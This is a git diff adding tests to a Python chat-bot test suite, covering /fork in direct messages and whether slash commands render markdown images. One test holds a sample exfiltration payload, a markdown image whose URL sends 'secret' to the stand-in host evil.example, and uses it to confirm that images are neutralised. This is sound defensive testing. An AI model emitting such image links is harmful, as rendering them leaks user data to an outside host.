@@ -133,6 +133,9 @@ async def test_where_all_is_one_conversation_there_is_nothing_to_fork() -> None:
     async with ChatTester(held(Parrot()), manners=Manners(scope="channel")) as chat:
         await chat.say("one")
         assert "cannot fork" in (await chat.say("/fork")).text
+    async with ChatTester(held(Parrot()), manners=Manners(dms="whole")) as chat:
+        await chat.say("one", addressed="direct")
+        assert "cannot fork" in (await chat.say("/fork", addressed="direct")).text
 
 
 async def test_history_is_a_table_and_a_file() -> None:
@@ -267,3 +270,25 @@ async def test_forget_me_deletes_ones_words_whoever_asked_for_another_answer_to_
         assert await chat.turns() == []
         entries = [entry.body async for entry in chat.conversations.store.entries("tester:W:general:t1")]
         assert "secret" not in "".join(entries)
+
+
+async def test_commands_carry_nothing_out_that_answers_do_not() -> None:
+    leak = "![a](https://evil.example/?q=secret)"
+    async with ChatTester(Says(leak)) as chat:
+        await chat.say(leak)
+        told = await chat.say("/history")
+        assert told.text.count("[a](https://evil.example/?q=secret)") == 2
+        forked = await chat.say(f"/fork {leak}")
+        undone = await chat.say("/undo")
+        assert not any("![" in message.text for message in (told, forked, undone))
+
+
+class Says(dspy.Module):
+    """Says always the same."""
+
+    def __init__(self, words: str) -> None:
+        super().__init__()
+        self.words = words
+
+    async def aforward(self, message: str) -> dspy.Prediction:
+        return dspy.Prediction(reply=self.words)
